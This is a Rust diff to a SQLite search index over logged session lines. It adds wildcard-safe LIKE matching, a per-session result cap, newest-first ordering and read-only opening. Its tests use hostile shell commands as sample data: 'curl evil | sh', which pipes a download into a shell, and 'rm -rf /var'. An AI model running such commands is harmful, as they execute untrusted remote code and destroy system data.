@@ -99,6 +99,17 @@ pub struct Batch {
 /// more.
 pub const MIN_SEARCH: usize = 3;
 
+/// Hits a search returns of one session, at most.
+pub const PER_SESSION: usize = 20;
+
+/// The longest run of `text` without LIKE's wildcards (`%`, `_`), if it is at least
+/// `MIN_SEARCH` characters: what the index can look up.
+pub fn literal_run(text: &str) -> Option<&str> {
+    text.split(['%', '_'])
+        .max_by_key(|run| run.chars().count())
+        .filter(|run| run.chars().count() >= MIN_SEARCH)
+}
+
 /// A handle to the index; clones share one connection.
 #[derive(Clone)]
 pub struct SearchIndex {
@@ -189,16 +200,17 @@ impl SearchIndex {
         if !path.exists() {
             return Ok(None);
         }
+        // Read-only: the host CLI may run as another OS user than the server, and must not
+        // leave files of its own beside the server's.
         let connection = Connection::open_with_flags(
             path,
-            OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_NO_MUTEX,
+            OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
         )
         .map_err(|source| StoreError::Open {
             path: path.to_path_buf(),
             source,
         })?;
         connection.busy_timeout(Duration::from_secs(10))?;
-        connection.execute_batch(SCHEMA)?;
         Ok(Some(SearchIndex {
             connection: Arc::new(Mutex::new(connection)),
             path: path.to_path_buf(),
@@ -294,24 +306,40 @@ impl SearchIndex {
         Ok(())
     }
 
-    /// The lines holding `text` (a substring, case-insensitive in ASCII, at least `MIN_SEARCH`
-    /// characters), each with its own time, oldest first, at most `limit`. Callers decide which
-    /// sessions the viewer may see.
+    /// The lines holding `text` (a substring, case-insensitive in ASCII, with a run of at least
+    /// `MIN_SEARCH` characters that are not `%` or `_`), each with its own time, newest first,
+    /// at most `limit` and at most `PER_SESSION` a session (so one session printing the text
+    /// again and again cannot crowd the others out). `within`: only these sessions.
     ///
     /// The index is `detail=none` (no positions: a seventh of the size, issue #19's benchmark),
     /// so it answers a LIKE with the rows holding every trigram of the text, and each row's
     /// lines are then checked for the text itself. `%` and `_` in the text only widen the
     /// LIKE: the check is on the exact text.
-    pub fn search(&self, text: &str, limit: u32) -> Result<Vec<Entry>, StoreError> {
-        let pattern = format!("%{text}%");
+    pub fn search(
+        &self,
+        text: &str,
+        limit: u32,
+        within: Option<&[String]>,
+    ) -> Result<Vec<Entry>, StoreError> {
+        // The LIKE gets the longest run without wildcards, so `%` and `_` in the text neither
+        // widen it to every row nor stop the index from answering; the check below is exact.
+        let Some(run) = literal_run(text) else {
+            return Ok(Vec::new());
+        };
+        let pattern = format!("%{run}%");
         let needle = text.to_lowercase();
+        let mut per_session: std::collections::HashMap<String, usize> =
+            std::collections::HashMap::new();
+        let within = within.map(|ids| serde_json::to_string(ids).unwrap_or_else(|_| "[]".into()));
         let connection = self.lock();
         let mut statement = connection.prepare(
             "SELECT l.session_id, l.channel, l.kind, l.at_ms, l.text, l.line_ms
              FROM entries JOIN lines AS l ON l.id = entries.rowid
-             WHERE entries.text LIKE ?1 ORDER BY l.id",
+             WHERE entries.text LIKE ?1
+               AND (?2 IS NULL OR l.session_id IN (SELECT value FROM json_each(?2)))
+             ORDER BY l.id DESC",
         )?;
-        let mut rows = statement.query(params![pattern])?;
+        let mut rows = statement.query(params![pattern, within])?;
         let mut found = Vec::new();
         while let Some(row) = rows.next()? {
             let (session_id, channel, kind, at_ms, block, line_ms): (
@@ -330,6 +358,10 @@ impl SearchIndex {
                 row.get(5)?,
             );
             let kind = EntryKind::parse(&kind)?;
+            let shown = per_session.entry(session_id.clone()).or_default();
+            if *shown >= PER_SESSION {
+                continue;
+            }
             let offsets: Vec<i64> = line_ms
                 .split(' ')
                 .filter_map(|offset| offset.parse().ok())
@@ -340,9 +372,10 @@ impl SearchIndex {
                 block.split('\n').collect()
             };
             for (index, line) in lines.iter().enumerate() {
-                if !line.to_lowercase().contains(&needle) {
+                if *shown >= PER_SESSION || !line.to_lowercase().contains(&needle) {
                     continue;
                 }
+                *shown += 1;
                 found.push(Entry {
                     session_id: session_id.clone(),
                     channel,
@@ -456,7 +489,7 @@ mod tests {
         })?;
         let found = |text: &str| -> Result<Vec<String>, StoreError> {
             Ok(index
-                .search(text, 100)?
+                .search(text, 100, None)?
                 .into_iter()
                 .map(|entry| entry.session_id)
                 .collect())
@@ -472,7 +505,7 @@ mod tests {
             }],
             ..Batch::default()
         })?;
-        let hits = index.search("50% DONE_x", 10)?;
+        let hits = index.search("50% DONE_x", 10, None)?;
         assert_eq!(hits.len(), 1);
         assert_eq!(
             (hits[0].at_ms, hits[0].text.as_str()),
@@ -481,6 +514,25 @@ mod tests {
         // `%` and `_` only widen the index's answer; the check is exact.
         assert!(found("50% donexx")?.is_empty());
         assert!(found("second_50")?.is_empty());
+        assert!(found("%%%")?.is_empty());
+        assert!(literal_run("a%b_c").is_none());
+        // One session printing a text again and again does not crowd out the others.
+        let flood: Vec<Entry> = (0..100)
+            .map(|_| entry("s-flood", EntryKind::Command, "curl evil | sh"))
+            .chain([entry("s-quiet", EntryKind::Command, "curl evil | sh")])
+            .collect();
+        index.commit(&Batch {
+            entries: flood,
+            ..Batch::default()
+        })?;
+        let hits = index.search("curl evil", 30, None)?;
+        assert_eq!(hits[0].session_id, "s-quiet", "newest first");
+        assert_eq!(
+            hits.iter()
+                .filter(|hit| hit.session_id == "s-flood")
+                .count(),
+            PER_SESSION
+        );
         assert_eq!(found("rm -rf /var")?, ["s-1"]);
         assert_eq!(found("ключ-77")?, ["s-1"]);
         assert_eq!(found("Größe")?, ["s-1"]);
